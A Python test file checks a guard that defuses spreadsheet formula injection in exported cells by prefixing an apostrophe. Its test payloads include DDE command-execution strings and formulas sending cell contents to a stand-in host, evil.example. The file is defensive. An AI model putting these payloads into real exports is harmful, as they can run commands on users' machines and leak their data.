"""Text that a spreadsheet would run is defused, and can be had back."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from strip_log.formats.guard import defused, defused_column

#: Payloads of OWASP, "CSV Injection", and of reports that cite it.
PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example?x=",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
)

#: Any text, often beginning as a formula or an apostrophe does.
TEXT = st.one_of(
    st.text(),
    st.text("'=+-@\t\r\n\uff1d\uff0b\uff0d\uff20 a", max_size=6),
    st.sampled_from(PAYLOADS),
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_gets_one_apostrophe_and_loses_nothing(payload):
    assert defused(payload) == f"'{payload}"


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_sign_alone_is_defused_too(sign):
    assert defused(sign) == f"'{sign}"


@pytest.mark.parametrize(
    "text",
    ["", "down", "a=1", "1+1", "s-7kq4md", "jo's", "'down'", "'", "''", "2026-11-24", "\xbd"],
)
def test_a_text_that_no_spreadsheet_runs_is_left_alone(text):
    assert defused(text) == text


@given(TEXT)
def test_no_defused_text_begins_as_a_formula_does(text):
    assert not re.match("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", defused(text))


def without_guard(cell):
    """What the README tells a reader to do: of apostrophes before a formula, take one away."""
    return cell[1:] if re.match("'+[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell) else cell


@given(TEXT)
def test_taking_one_apostrophe_away_gives_back_every_text(text):
    assert without_guard(defused(text)) == text


@given(TEXT, TEXT)
def test_two_texts_never_become_the_same_cell(one, other):
    assert (defused(one) == defused(other)) == (one == other)


@given(st.lists(st.one_of(st.none(), st.integers(), st.floats(), st.booleans(), TEXT)))
def test_a_column_is_defused_cell_by_cell_and_only_its_texts(values):
    cells = list(defused_column(values))
    assert len(cells) == len(values)
    for cell, value in zip(cells, values, strict=True):
        assert cell is value or cell == defused(value)
        assert not isinstance(value, str) or cell == defused(value)


@given(st.lists(st.one_of(st.none(), TEXT)))
def test_a_column_of_texts_is_defused_as_each_text_is(values):
    assert list(defused_column(values)) == [value and defused(value) for value in values]


def test_a_column_with_nothing_to_defuse_is_handed_on_as_it_is():
    values = ("down", None, "", "jo's")
    assert defused_column(values) is values
